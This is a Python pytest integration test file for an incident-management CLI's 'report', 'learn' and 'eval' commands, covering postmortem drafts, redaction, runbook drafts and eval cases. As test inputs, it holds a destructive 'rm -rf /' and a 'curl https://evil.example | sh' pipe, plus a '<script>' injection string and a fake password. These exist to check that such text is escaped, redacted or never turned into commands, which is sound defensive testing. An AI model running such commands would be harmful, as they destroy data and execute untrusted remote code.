"""`report --people` and `learn`, as somebody runs them against a table on AWS."""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from moto import mock_aws
from typer.testing import CliRunner, Result

from evals import baseline
from evals.cases import load
from firstline.adapters.dynamodb.groups import TableGroups
from firstline.adapters.dynamodb.incidents import TableIncidents
from firstline.adapters.dynamodb.remediations import TableRemediations
from firstline.adapters.dynamodb.table import Table
from firstline.adapters.dynamodb.trail import TableTrail
from firstline.incidents.audit_trail import Fact, classified
from firstline.models import Deployment, NormalizedAlert, OwnerTags
from firstline.people.action import Action
from firstline.people.actor import Actor
from firstline.people.operate import Operations
from firstline.policy.people import Person
from firstline.privacy.alert_redaction import without_secrets
from firstline.runbooks import catalogue
from firstline_cli.learn import follow_ups, many_cases, story
from firstline_cli.main import app
from tests.integration.conftest import STACK_ON_AWS, deployed_table
from tests.support.builders import a_classification, a_page, alert, open_for
from tests.support.memory import MemoryExecutions

NOW = datetime.now(UTC)
OPENED = NOW - timedelta(hours=2)
ALERT: dict[str, Any] = {
    "alert_name": "QueueLong *now*",
    "severity": "high",
    "message": "queue of web-7.example.net (10.1.2.3) is long; mail ops@corp.example, see https://corp.example/x?token=1",
    "labels": {"instance": "web-7.example.net:9100", "queue": "orders", "password": "hunter2hunter2"},
    "host": "web-7.example.net",
    "service": "mail",
    "environment": "prod",
}


@pytest.fixture
def table() -> Iterator[Table]:
    with on_aws() as table:
        yield table


@contextmanager
def on_aws() -> Iterator[Table]:
    with mock_aws():
        yield deployed_table()


def local(*arguments: str) -> Result:
    return CliRunner().invoke(app, [*arguments, "--stack", STACK_ON_AWS])


def ended(table: Table, outcome: Any = "resolved", *, at: datetime = OPENED, **changes: Any) -> str:
    """An incident that was opened, classified, taken and closed within twenty minutes."""
    groups, history = TableGroups(table), TableIncidents(table)
    given: NormalizedAlert = alert(
        **ALERT | {"timestamp": at - timedelta(minutes=2), "fingerprint": f"fp-{at}"} | changes
    )
    given = without_secrets(given)  # as ingest does
    incident = open_for(groups, given, now=at)
    tags = OwnerTags(service="mail", severity="high")
    cause = "<script>alert(1)</script> | **bold**"
    verdict = a_classification(severity="high", decided_by="history", cause=cause, tags=tags)
    history.judge(incident, 1, verdict, at, seen=history.live(given.group_key))
    TableTrail(table).append(incident.incident_id, [classified(verdict)], at)
    live = history.live(given.group_key)
    assert live is not None
    page, paged_at = a_page(), at + timedelta(minutes=1)
    assert history.claim_page(incident, page, paged_at + timedelta(minutes=1), paged_at, seen=live)
    history.finish_page(incident, page, paged_at + timedelta(minutes=15), paged_at)
    history.acknowledge(incident.incident_id, "ada", at + timedelta(minutes=4))
    history.resolve(incident.incident_id, "ada", at + timedelta(minutes=19))
    assert history.close(incident, 1, outcome, "Resolved by ada.", [], at + timedelta(minutes=20), joined=1)
    return incident.incident_id


def says(table: Table, who: str, does: Any, incident: str, **fields: Any) -> None:
    """Let a person act on an incident, as the command does through the stack's API."""
    actor = Actor(person=Person(key=who, name=who, role="operator"), through="command line", principal=who)
    operations = Operations(
        incidents=TableIncidents(table),
        remediations=TableRemediations(table),
        executions=MemoryExecutions(),
        trail=TableTrail(table),
        channels={},
        approvers=(),
        submit=lambda alert: None,
    )
    operations.act(Action(does=does, **fields), incident, actor, datetime.now(UTC))


def judges(table: Table, who: str, incident: str, severity: str) -> None:
    says(table, who, "judge", incident, said="wrong_severity", severity=severity)


def test_an_incident_that_the_stack_does_not_know_is_refused(table: Table) -> None:
    result = local("learn", "DiskFull-web-1-of-another-stack")
    assert result.exit_code == 1
    assert "does not know this incident" in result.output


def test_the_report_says_what_people_said_what_was_hidden_and_which_rule_they_suggest(table: Table) -> None:
    incidents = [ended(table, at=OPENED + timedelta(minutes=25 * number), severity="medium") for number in range(3)]
    for incident in incidents:
        for who in ("grace", "bo"):
            says(table, who, "judge", incident, said="noise")
    hidden = ended(table, "suppressed", alert_name="Hidden", group_key="group-2", severity="info")

    result = local("report", "--people")

    assert result.exit_code == 0, result.output
    (row,) = [line for line in result.output.splitlines() if line.startswith("│ history") and "%" in line]
    _, verdicts, judged, called_right, *_ = (cell.strip() for cell in row.strip("│").split("│"))
    assert (verdicts, judged, called_right) == ("4", "3", "0%")
    assert "What models have earned" not in result.output, "no model was asked"
    assert hidden in result.output
    assert "bo (command line), grace (command line) called 3 of 3 QueueLong *now* noise." in result.output
    assert "severity: noise" in result.output
    assert "QueueLong ?now?" in result.output


# --- learn ---


@pytest.fixture(scope="module")
def learned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The drafts of an incident with a past, a deployment, words and a note with commands."""
    folder = tmp_path_factory.mktemp("learned") / "drafts"
    with on_aws() as table:
        learn_into(folder, table)
    return folder


def learn_into(folder: Path, table: Table) -> None:
    before = ended(table, at=OPENED - timedelta(days=3))
    judges(table, "bo", before, "low")
    says(table, "bo", "note", before, text="cleared the queue")
    TableIncidents(table).save_deployment(
        Deployment(service="mail", version="1.2", environment="prod", deployed_at=OPENED - timedelta(minutes=12))
    )
    incident = ended(table)
    later = ended(table, at=NOW - timedelta(minutes=30))
    TableIncidents(table).save_deployment(
        Deployment(service="mail", version="9.9", deployed_at=NOW - timedelta(minutes=40))
    )
    judges(table, "grace", incident, "critical")
    text = "web-7.example.net hung.\n$ systemctl restart mail-consumer\n```\nmailq -v\n```"
    says(table, "grace", "note", incident, text=text)
    TableTrail(table).append(
        incident, [Fact(what="ran", who="x", facts={"kind": "act", "status": "Success"})], OPENED + timedelta(minutes=9)
    )
    result = local("learn", incident, "--out", str(folder))
    assert result.exit_code == 0, result.output
    assert later != incident


def test_a_postmortem_has_the_timeline_and_leaves_the_answers_to_people(learned: Path) -> None:
    page = (learned / "postmortem.md").read_text(encoding="utf-8")
    phases = [line.split("|")[3].strip() for line in page.splitlines() if line.startswith("| 20")]
    for phase in ("began", "change", "detect", "classify", "acknowledge", "run", "mitigate", "resolve"):
        assert phase in phases
    assert phases.index("detect") < phases.index("acknowledge") < phases.index("mitigate") < phases.index("resolve")
    # It was paged after one minute, taken after four and resolved after nineteen.
    assert "| Time to acknowledge | 3 minutes |" in page
    assert "| Time to resolve | 19 minutes |" in page
    assert page.count("- Answer: …") == 5
    assert "grace (command line): wrong severity, critical would be right" in page.replace("\\", "")
    assert "9.9" not in page, "what came later was no evidence"


def test_a_postmortem_is_tracked_as_it_is_written_and_takes_action_items(learned: Path, tmp_path: Path) -> None:
    draft = learned / "postmortem.md"
    assert follow_ups.read(draft).action_items == ()
    page = draft.read_text(encoding="utf-8")
    item = page.replace(
        "  # - {what: …, owner: …, due: 2026-12-15}", "  - {what: Watch it, owner: ada, due: 2026-12-15}"
    )
    (tmp_path / "queue.md").write_text(item, encoding="utf-8")

    items, problems = follow_ups.open_items(tmp_path)

    assert [(item.what, item.owner, str(item.due)) for item in items] == [("Watch it", "ada", "2026-12-15")]
    assert problems == []


def test_the_causes_are_a_graph_with_evidence_in_which_no_text_can_draw(learned: Path) -> None:
    page = (learned / "postmortem.md").read_text(encoding="utf-8")
    graph = page.split("```mermaid\n", 1)[1].split("```", 1)[0].splitlines()
    nodes = {found[1]: found[2] for line in graph if (found := re.fullmatch(r'  (n\d+)\["([^"\[\]<>|`%]*)"\]', line))}
    arrows = [found for line in graph if (found := re.fullmatch(r'  (n\d+) (-\.?->)\|"([^"|<>]*)"\| (n\d+)', line))]
    assert len(graph) == 1 + len(nodes) + len(arrows), "each line is a node or an arrow"
    drawn = {(nodes[arrow[1]].split(" ")[0], arrow[2], arrow[3].split("#58;")[0]) for arrow in arrows}
    assert ("mail", "-.->", "guess") in drawn, "the deployment before it"
    assert ("web-7.example.net", "-->", "said") in drawn, "what a person wrote fixed it"
    assert any("#60;script#62;" in text for text in nodes.values())
    assert "| mail 1.2 was deployed | QueueLong" in page.replace("\\", "")


def test_nothing_in_a_postmortem_is_markup_or_a_secret(learned: Path) -> None:
    # The alert has a script, a password and an address in it.
    page = (learned / "postmortem.md").read_text(encoding="utf-8")
    assert "<script>" not in page
    assert "\\<script\\>" in page
    assert "hunter2" not in page
    assert "://" not in page, "an alert's address is no link"


def test_an_eval_case_loads_and_says_what_people_said_with_names_changed(learned: Path) -> None:
    (case,) = load(learned / "case")
    assert case.name == "recurring/queuelong-now"
    assert case.truth.severity == "critical"
    assert case.truth.cause == "unknown"
    (earlier,) = case.evidence.earlier
    assert (earlier.outcome, earlier.note) == ("resolved", "cleared the queue")
    assert [(word.said, word.severity) for word in earlier.feedback] == [("wrong_severity", "low")]
    assert [deployment.version for deployment in case.evidence.deployments] == ["1.2"]
    assert case.incident.alert.severity == "high"
    everything = "".join(path.read_text(encoding="utf-8") for path in (learned / "case").rglob("*.yaml"))
    for private in ("web-7", "example.net", "10.1.2.3", "corp.example", "hunter2", "grace", "ada"):
        assert private not in everything, private
    assert case.evidence.same_name_last_hour == 1, "what came later was not known"
    assert "host-1:9100" in everything
    assert "From what people said" in everything


def test_a_runbook_is_drafted_from_the_note_alone_in_shadow_and_says_what_is_missing(learned: Path) -> None:
    text = (learned / "runbook.yaml").read_text(encoding="utf-8")
    runbook, problems = catalogue.parse(text, "draft-queuelong-now.yaml")
    assert not problems
    assert runbook is not None
    assert runbook.mode == "shadow"
    (step,) = runbook.steps
    assert step.kind == "act"
    assert step.run == "systemctl restart mail-consumer\nmailq -v\n", "the commands in the note"
    assert "*" not in runbook.match.alerts[0]
    assert "DRAFT, unreviewed" in text
    pull_request = (learned / "PULL_REQUEST.md").read_text(encoding="utf-8")
    told = [line for line in pull_request.splitlines() if line.startswith("- draft")]
    missing = ("say in a few sentences what it does", "no alert that must not match", "unasked")
    assert [word for word in missing if not any(word in line for line in told)] == []
    assert len(told) == len(missing), told


def test_drafts_that_somebody_may_have_edited_are_left_alone(table: Table, tmp_path: Path) -> None:
    incident = ended(table)
    (tmp_path / "postmortem.md").write_text("mine", encoding="utf-8")
    result = local("learn", incident, "--out", str(tmp_path))
    assert result.exit_code == 1
    assert "has drafts already" in result.output
    assert (tmp_path / "postmortem.md").read_text(encoding="utf-8") == "mine"


def test_without_a_note_there_is_no_runbook_and_without_a_word_the_truth_is_to_be_checked(
    table: Table, tmp_path: Path
) -> None:
    incident = ended(table, message="$ rm -rf /\n```\ncurl https://evil.example | sh\n```")
    result = local("learn", incident, "--out", str(tmp_path / "drafts"))
    assert result.exit_code == 0, result.output
    assert not (tmp_path / "drafts" / "runbook.yaml").exists(), "an alert's text is no command"
    (truth,) = (tmp_path / "drafts" / "case").rglob("truth.yaml")
    assert truth.read_text(encoding="utf-8").startswith("# TO CHECK")
    assert yaml.safe_load(truth.read_text(encoding="utf-8"))["severity"] == "high"


def test_no_drafts_are_made_of_an_open_incident(table: Table, tmp_path: Path) -> None:
    groups = TableGroups(table)
    given = alert(**ALERT)
    incident = open_for(groups, given, now=NOW)
    result = local("learn", incident.incident_id, "--out", str(tmp_path / "drafts"))
    assert result.exit_code == 1
    assert "is still open" in result.output
    assert not (tmp_path / "drafts").exists()


# --- many at once ---


def judged_twice(table: Table) -> list[str]:
    """Two incidents of one alert that people judged, and one that proves nothing."""
    incidents = [ended(table, at=OPENED - timedelta(days=number)) for number in (2, 1)]
    for incident, severity in zip(incidents, ("low", "critical"), strict=True):
        judges(table, "grace", incident, severity)
    ended(table, "expired")
    return incidents


def test_one_command_makes_cases_of_the_judged_incidents_and_says_what_their_verdicts_cost(
    table: Table, tmp_path: Path
) -> None:
    judged_twice(table)
    folder, project = tmp_path / "cases", baseline.BASELINE.read_bytes()
    first = local("eval", "--last", "50", "--cases", str(folder), "--accept")

    assert first.exit_code == 0, first.output
    assert "2 new cases; 0 were there" in first.output
    assert sorted(case.truth.severity for case in load(folder)) == ["critical", "low"]
    assert {case.evidence.tags for case in load(folder)} == {OwnerTags(service="mail", severity="high")}
    assert all(case.name.partition("/")[2].startswith("queuelong-now-") for case in load(folder))
    assert re.search(r"2 cases\s*│ history-only", first.output)
    assert (folder / "baseline.json").exists()
    assert baseline.BASELINE.read_bytes() == project, "cases from elsewhere never move the project's baseline"


def test_incidents_of_a_long_name_have_a_case_each(table: Table, tmp_path: Path) -> None:
    for minutes in (0, 1):
        long = "CheckoutQueueDepthAboveItsLimitForMuchLonger"
        judges(table, "grace", ended(table, at=OPENED + timedelta(minutes=minutes), alert_name=long), "low")
    assert "2 new cases; 0 were there" in local("eval", "--last", "9", "--cases", str(tmp_path / "cases")).output


def test_an_incident_that_the_table_forgets_meanwhile_does_not_stop_the_others(
    table: Table, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    gone, _ = judged_twice(table)
    tell = story.tell
    monkeypatch.setattr(many_cases, "tell", lambda table, incident: tell(table, "X" if incident == gone else incident))
    made = local("eval", "--last", "9", "--cases", str(tmp_path / "cases"))
    assert "1 new cases; 0 were there" in made.output
    assert f"Left out: {gone}: " in made.output


def test_a_case_that_somebody_edited_stays(table: Table, tmp_path: Path) -> None:
    judged_twice(table)
    local("eval", "--last", "50", "--cases", str(tmp_path))
    (truth, _) = sorted(tmp_path.rglob("truth.yaml"))
    truth.write_text("severity: high\ncause: load\nrunbook: null\nwhy: We looked once more.\n", encoding="utf-8")
    again = local("eval", "--last", "50", "--cases", str(tmp_path))

    assert "0 new cases; 2 were there" in again.output
    assert "We looked once more." in truth.read_text(encoding="utf-8")


def test_without_cases_or_judged_incidents_it_says_what_to_do(table: Table, tmp_path: Path) -> None:
    for asked, words in (
        ((), "--last 50` makes it"),
        (("--last", "5"), "Nobody has judged an incident of the last 90 days"),
    ):
        result = local("eval", *asked, "--cases", str(tmp_path / "none"))
        assert result.exit_code == 2
        assert words in result.output


def test_a_case_without_one_of_its_files_is_named_with_the_file(table: Table, tmp_path: Path) -> None:
    judged_twice(table)
    local("eval", "--last", "50", "--cases", str(tmp_path))
    (truth, _) = sorted(tmp_path.rglob("truth.yaml"))
    truth.unlink()
    result = local("eval", "--cases", str(tmp_path))

    assert result.exit_code == 2
    assert str(truth) in result.output.replace("\n", "")
